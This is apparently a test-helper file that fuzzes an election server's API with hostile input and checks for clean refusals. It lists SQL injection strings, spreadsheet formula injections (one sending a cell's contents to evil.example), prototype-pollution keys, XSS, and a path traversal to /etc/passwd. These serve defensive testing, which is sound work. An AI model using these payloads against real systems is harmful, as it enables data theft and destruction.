/**
 * fast-check generators of hostile input for the hostile-*.test.ts files, and the one assertion they
 * share: a refusal is a 4xx with a stable JSON error code, no stack trace, and no row written.
 */
import fc from 'fast-check';
import { expect } from 'vitest';
import {
  IDENTITY_POINT,
  NON_CANONICAL_POINT,
  NON_CANONICAL_POINT_HEX,
  SCALAR_L,
  withUnusedBits,
} from '../../crypto/test/helpers.ts';
import type { Role } from '../src/auth/users.ts';
import type { ApiResponse, Harness } from '@saylau/test-kit';

/** Classic SQL injection strings: they must be stored and returned as text, never run. */
export const SQL_INJECTIONS = [
  "'; DROP TABLE voters; --",
  "Robert'); DROP TABLE board;--",
  "' OR '1'='1",
  '" OR ""="',
  '1; DELETE FROM ballots WHERE 1=1; --',
  "' UNION SELECT code_hash FROM login_codes --",
  "Қ' || (SELECT secret_key FROM server_keys) || '",
  "\\x27; ATTACH DATABASE '/tmp/x.db' AS x; --",
];

/** Cells a spreadsheet would run as a formula (OWASP CSV injection), with every trigger character. */
export const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];

/** Keys that pollute prototypes when code assigns them carelessly. */
export const PROTO_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'];

/** Strings that must never decode as a point or a scalar where one is expected (SPEC §1.2, §2). */
export const BAD_GROUP_TEXT = [
  NON_CANONICAL_POINT,
  IDENTITY_POINT,
  SCALAR_L,
  withUnusedBits(SCALAR_L),
  `${IDENTITY_POINT}=`,
  '_'.repeat(43),
  '+'.repeat(43),
  'A'.repeat(42),
  'A'.repeat(44),
  // The earlier hex forms.
  NON_CANONICAL_POINT_HEX,
  'f'.repeat(64),
  '00'.repeat(32),
  '',
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...SQL_INJECTIONS, ...FORMULAS, ...PROTO_KEYS, ...BAD_GROUP_TEXT),
  fc.constantFrom(
    '\u0000',
    '\u202e\u0635', // right-to-left override
    '<script>alert(1)</script>',
    '../../../etc/passwd',
    '%00%2e%2e',
    '\ud800', // a lone surrogate
    '\uFEFFbom',
  ),
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 20 }),
  fc.nat({ max: 300_000 }).map((n) => 'Ж'.repeat(Math.max(1, n % 60_000))),
);

const hostileKey = fc.oneof(fc.constantFrom(...PROTO_KEYS), fc.string({ maxLength: 12 }));

/** Any JSON value, with hostile keys and strings, huge numbers and long arrays. */
export const hostileJson: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    fc.constantFrom(null, true, false, 0, -0, 1e308, -1e308, 2 ** 53 + 1, 0.1, -1),
    fc.integer(),
    hostileString,
    fc.array(tie('value'), { maxLength: 4 }),
    fc.nat({ max: 20_000 }).map((n) => Array.from({ length: n }, (_, i) => i)),
    fc.dictionary(hostileKey, tie('value'), { maxKeys: 4 }),
  ),
})).value;

/** A JSON body that is never `{}` (which some endpoints accept as "no parameters"). */
export const hostileBody: fc.Arbitrary<unknown> = hostileJson.filter(
  (v) => !(typeof v === 'object' && v !== null && !Array.isArray(v) && Object.keys(v).length === 0),
);

/**
 * Raw request bodies that are not JSON, or JSON that must not parse into something an endpoint
 * accepts: truncated, nested past any sane depth, own `__proto__` keys, a BOM, trailing garbage.
 */
export const rawJsonText: fc.Arbitrary<string> = fc.oneof(
  fc.string({ minLength: 1, maxLength: 60 }),
  fc.nat({ max: 60_000 }).map((n) => '['.repeat(n + 1) + ']'.repeat(n + 1)),
  fc.nat({ max: 20_000 }).map((n) => '{"a":'.repeat(n + 1) + '1' + '}'.repeat(n + 1)),
  fc.nat({ max: 20_000 }).map((n) => '['.repeat(n + 1)),
  fc.constantFrom(
    '{"__proto__":{"polluted":true}}',
    '{"constructor":{"prototype":{"polluted":true}}}',
    '{"a":1,"a":2}',
    '\uFEFF{"a":1}',
    '{"a":1} trailing',
    '{"a":1e999999}',
    "{'a':1}",
    '{"a":"\\ud800"}',
    'null',
    '"just a string"',
    '12',
    ' ',
  ),
  hostileBody.map((v) => {
    const s = JSON.stringify(v) ?? 'null';
    return s.slice(0, Math.max(1, s.length - 1)); // truncated
  }),
);

/** Every leaf path of a JSON value, to mutate a valid document one place at a time. */
export function paths(v: unknown, at: (string | number)[] = []): (string | number)[][] {
  if (Array.isArray(v)) return [at, ...v.flatMap((x, i) => paths(x, [...at, i]))];
  if (typeof v === 'object' && v !== null)
    return [at, ...Object.entries(v).flatMap(([k, x]) => paths(x, [...at, k]))];
  return [at];
}

function getAt(v: unknown, path: (string | number)[]): unknown {
  return path.reduce<unknown>((o, k) => (o as Record<string | number, unknown>)[k], v);
}

/** One way to spoil a value: group elements that must be refused, truncation, wrong types, removal. */
export type Mutation =
  | { kind: 'replace'; with: unknown }
  | { kind: 'truncate'; keep: number }
  | { kind: 'extend' }
  | { kind: 'flip'; at: number }
  | { kind: 'upper' }
  | { kind: 'delete' }
  | { kind: 'duplicate' }
  | { kind: 'proto' };

export const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc
    .constantFrom(...BAD_GROUP_TEXT, null, 0, [], {}, true, 'zz')
    .map((w) => ({ kind: 'replace' as const, with: w })),
  fc.nat({ max: 200 }).map((keep) => ({ kind: 'truncate' as const, keep })),
  fc.constant({ kind: 'extend' as const }),
  fc.nat({ max: 200 }).map((at) => ({ kind: 'flip' as const, at })),
  fc.constant({ kind: 'upper' as const }),
  fc.constant({ kind: 'delete' as const }),
  fc.constant({ kind: 'duplicate' as const }),
  fc.constant({ kind: 'proto' as const }),
);

/** A deep copy of `doc` with `m` applied at `path` (the root when the path is empty). */
export function mutate(doc: unknown, path: (string | number)[], m: Mutation): unknown {
  const copy = JSON.parse(JSON.stringify(doc)) as unknown;
  const parent =
    path.length === 0 ? null : (getAt(copy, path.slice(0, -1)) as Record<string | number, unknown>);
  const key = path[path.length - 1]!;
  const old = parent ? parent[key] : copy;
  const set = (v: unknown) => {
    if (parent) parent[key] = v;
    return parent ? copy : v;
  };
  switch (m.kind) {
    case 'replace':
      return set(m.with);
    case 'truncate':
      return typeof old === 'string' ? set(old.slice(0, m.keep % Math.max(1, old.length))) : set(old);
    case 'extend':
      return set(typeof old === 'string' ? old + '00' : Array.isArray(old) ? [...old, old[0]] : [old]);
    case 'flip': {
      if (typeof old !== 'string' || old.length === 0) return set(String(old) + '!');
      const i = m.at % old.length;
      const c = old[i]!;
      return set(old.slice(0, i) + (c === '0' ? '1' : c === 'a' ? 'b' : '0') + old.slice(i + 1));
    }
    case 'upper':
      return set(typeof old === 'string' ? old.toUpperCase() : old);
    case 'delete':
      if (!parent) return undefined;
      if (Array.isArray(parent)) parent.splice(key as number, 1);
      else delete parent[key];
      return copy;
    case 'duplicate':
      if (Array.isArray(parent)) parent.splice(key as number, 0, JSON.parse(JSON.stringify(old)) as unknown);
      return copy;
    case 'proto':
      // An own "__proto__" key, as JSON.parse makes it; a plain assignment would set the prototype.
      if (typeof old === 'object' && old !== null && !Array.isArray(old))
        Object.defineProperty(old, '__proto__', { value: { polluted: true }, enumerable: true });
      else set({ __proto__: null, value: old });
      return copy;
  }
}

/** A 4xx with a stable code, nothing internal in the text. */
export function expectClientError(r: ApiResponse): void {
  const shown = `${r.status} ${r.text.slice(0, 300)}`;
  expect(r.status, shown).toBeGreaterThanOrEqual(400);
  expect(r.status, shown).toBeLessThan(500);
  expect(r.headers.get('content-type') ?? '', shown).toMatch(/^application\/json/);
  expect(r.body?.error?.code, shown).toMatch(/^[A-Z][A-Z0-9_]{1,40}$/);
  expect(typeof r.body.error.message, shown).toBe('string');
  expectNoLeak(r.text);
}

/** No stack frame, source path or error class name that only a crash would show. */
export function expectNoLeak(text: string): void {
  expect(text).not.toMatch(/\n\s+at |\bat [\w.<>]+ \(|node_modules|\/src\/[\w/-]+\.ts|file:\/\//);
  expect(text).not.toMatch(/SqliteError|TypeError|RangeError|ReferenceError|SyntaxError: /);
}

/** Run `send`, then assert a clean refusal that changed no table and no board entry. */
export async function expectRefusedUnchanged(
  h: Harness,
  send: () => Promise<ApiResponse>,
): Promise<ApiResponse> {
  const before = h.snapshot();
  const r = await send();
  expectClientError(r);
  expect(h.snapshot(), `${r.status} ${r.text.slice(0, 200)}`).toEqual(before);
  return r;
}

/** Runs per property: enough to find a crash across many endpoints, small enough for 2 shared cores. */
export const RUNS = Number(process.env.HOSTILE_RUNS ?? 12);

/** Who may call an endpoint: a commission role, a voter token, or anyone. */
export type Caller = Role | 'voter' | 'public';

export interface Endpoint {
  method: 'GET' | 'POST' | 'PUT' | 'DELETE';
  /** The path with `:id` (an election in the state where the route does its work) and `:n`. */
  path: string;
  as: Caller;
  /** Takes a body (JSON unless noted). */
  body?: boolean;
}

/**
 * Every route of the routers in server/src/**\/routes.ts, auth/session.ts, auth/grant-routes.ts and
 * board-routes.ts, each on an election in the state where it would act, called by the role it needs
 * (holding a grant on both elections, SPEC §10.13), so the fuzzed input reaches the validation
 * rather than stopping at the door. The grant revoked is one nobody holds, so no input revokes one.
 */
export function endpoints(OPEN: string, NOM: string): Endpoint[] {
  return [
    { method: 'POST', path: '/api/session', as: 'public', body: true },
    { method: 'GET', path: '/api/session', as: 'observer' },
    { method: 'GET', path: '/api/elections', as: 'public' },
    { method: 'POST', path: '/api/elections', as: 'admin', body: true },
    { method: 'GET', path: `/api/elections/${NOM}/grants`, as: 'admin' },
    { method: 'POST', path: `/api/elections/${NOM}/grants`, as: 'admin', body: true },
    { method: 'DELETE', path: `/api/elections/${NOM}/grants/nobody`, as: 'admin', body: true },
    { method: 'GET', path: `/api/elections/${OPEN}`, as: 'public' },
    { method: 'POST', path: `/api/elections/${NOM}/open`, as: 'commission', body: true },
    { method: 'POST', path: `/api/elections/${NOM}/roll/imports`, as: 'commission', body: true },
    { method: 'GET', path: `/api/elections/${NOM}/roll/imports`, as: 'commission' },
    { method: 'GET', path: `/api/elections/${NOM}/roll/imports/1`, as: 'commission' },
    { method: 'GET', path: `/api/elections/${NOM}/roll/imports/1/rejected.csv`, as: 'commission' },
    { method: 'POST', path: `/api/elections/${NOM}/roll/imports/1/accept`, as: 'commission', body: true },
    { method: 'POST', path: `/api/elections/${NOM}/roll/imports/1/discard`, as: 'commission', body: true },
    { method: 'GET', path: `/api/elections/${OPEN}/roll`, as: 'public' },
    { method: 'PUT', path: `/api/elections/${NOM}/akim`, as: 'commission', body: true },
    { method: 'GET', path: `/api/elections/${NOM}/akim`, as: 'commission' },
    { method: 'POST', path: `/api/elections/${NOM}/nominations`, as: 'commission', body: true },
    { method: 'GET', path: `/api/elections/${NOM}/nominations`, as: 'commission' },
    { method: 'GET', path: `/api/elections/${NOM}/nominations/1`, as: 'commission' },
    { method: 'POST', path: `/api/elections/${NOM}/nominations/extend`, as: 'commission', body: true },
    { method: 'POST', path: `/api/elections/${NOM}/nominations/1/signatures`, as: 'commission', body: true },
    { method: 'POST', path: `/api/elections/${NOM}/nominations/1/register`, as: 'commission', body: true },
    { method: 'POST', path: `/api/elections/${NOM}/nominations/1/refuse`, as: 'commission', body: true },
    { method: 'POST', path: `/api/elections/${NOM}/ballot/fix`, as: 'commission', body: true },
    { method: 'POST', path: `/api/elections/${NOM}/trustees`, as: 'trustee', body: true },
    { method: 'GET', path: `/api/elections/${NOM}/ceremony`, as: 'public' },
    { method: 'POST', path: `/api/elections/${NOM}/ceremony/start`, as: 'commission', body: true },
    { method: 'POST', path: `/api/elections/${NOM}/ceremony/dealings`, as: 'trustee', body: true },
    { method: 'POST', path: `/api/elections/${NOM}/ceremony/complaints`, as: 'trustee', body: true },
    { method: 'POST', path: `/api/elections/${NOM}/ceremony/answers`, as: 'trustee', body: true },
    { method: 'POST', path: `/api/elections/${NOM}/ceremony/finish`, as: 'commission', body: true },
    { method: 'POST', path: `/api/elections/${NOM}/ceremony/reset`, as: 'commission', body: true },
    { method: 'POST', path: `/api/elections/${NOM}/credentials`, as: 'credential-authority', body: true },
    { method: 'POST', path: `/api/elections/${OPEN}/login-codes`, as: 'commission', body: true },
    {
      method: 'POST',
      path: `/api/elections/${OPEN}/login-codes/${'1'.repeat(12)}`,
      as: 'commission',
      body: true,
    },
    { method: 'POST', path: `/api/elections/${OPEN}/login`, as: 'public', body: true },
    { method: 'POST', path: `/api/elections/${OPEN}/ballots`, as: 'voter', body: true },
    { method: 'GET', path: `/api/elections/${OPEN}/ballots/abcd-efgh`, as: 'public' },
    { method: 'GET', path: `/api/elections/${OPEN}/board`, as: 'public' },
    { method: 'GET', path: `/api/elections/${OPEN}/board/head`, as: 'public' },
    { method: 'POST', path: `/api/elections/${OPEN}/close`, as: 'commission', body: true },
    { method: 'GET', path: `/api/elections/${OPEN}/tally`, as: 'public' },
    { method: 'POST', path: `/api/elections/${OPEN}/decryptions`, as: 'trustee', body: true },
    { method: 'GET', path: `/api/elections/${OPEN}/result`, as: 'public' },
    { method: 'GET', path: `/api/elections/${OPEN}/result/protocol`, as: 'public' },
    { method: 'GET', path: '/api/booth', as: 'public' },
    { method: 'GET', path: `/api/booth/elections/${OPEN}/candidates`, as: 'public' },
    { method: 'GET', path: '/api/verifier', as: 'public' },
  ];
}

/** Printable text a bounded text field keeps exactly (NFC, no outer or repeated white space). */
export const plainText: fc.Arbitrary<string> = fc
  .oneof(
    fc.constantFrom(
      ...SQL_INJECTIONS,
      ...FORMULAS,
      'Ким "Тимур"',
      'Абай; 5',
      'a,b',
      "O'Neil",
      'Ж'.repeat(100),
    ),
    fc.string({ minLength: 1, maxLength: 30 }),
  )
  .filter((s) => s === s.normalize('NFC').replace(/\s+/g, ' ').trim() && s !== '' && !/[\p{C}]/u.test(s));
